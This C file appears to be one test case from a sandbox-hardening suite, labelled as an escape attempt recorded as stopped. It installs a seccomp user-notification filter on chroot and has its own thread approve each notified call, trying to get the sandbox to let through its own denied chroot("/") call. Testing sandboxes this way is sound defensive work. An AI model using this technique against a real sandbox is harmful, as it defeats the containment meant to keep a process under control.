/*
 * Technique: let one's own denied call be made, by a listener of one's own
 * Family: escape
 * Layers: seccomp, capabilities
 * Outcome: stopped
 * Policies: every
 * Control: layers
 */
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stddef.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "hostile.h"

enum { NONE = -1, MOMENT_US = 1000 };

static atomic_int listener = NONE;

/* Answers each call with: go on. */
static void *answer(void *none)
{
    while (atomic_load(&listener) == NONE)
        (void)usleep(MOMENT_US);
    for (;;) {
        struct seccomp_notif question = {0};
        if (ioctl(atomic_load(&listener), SECCOMP_IOCTL_NOTIF_RECV, &question) < 0)
            return none;
        struct seccomp_notif_resp go_on = {.id = question.id,
                                           .flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE};
        (void)ioctl(atomic_load(&listener), SECCOMP_IOCTL_NOTIF_SEND, &go_on);
    }
}

static void listen_to_oneself(void)
{
    struct sock_filter code[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_chroot, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog filter = {sizeof(code) / sizeof(code[0]), code};
    pthread_t thread;

    if (pthread_create(&thread, NULL, answer, NULL) != 0)
        return;
    (void)prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
    long fd = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER,
                      &filter);
    if (fd >= 0)
        atomic_store(&listener, (int)fd);
}

int main(void)
{
    listen_to_oneself(); /* where this is refused, the call is made without */
    return hostile_end(chroot("/"));
}
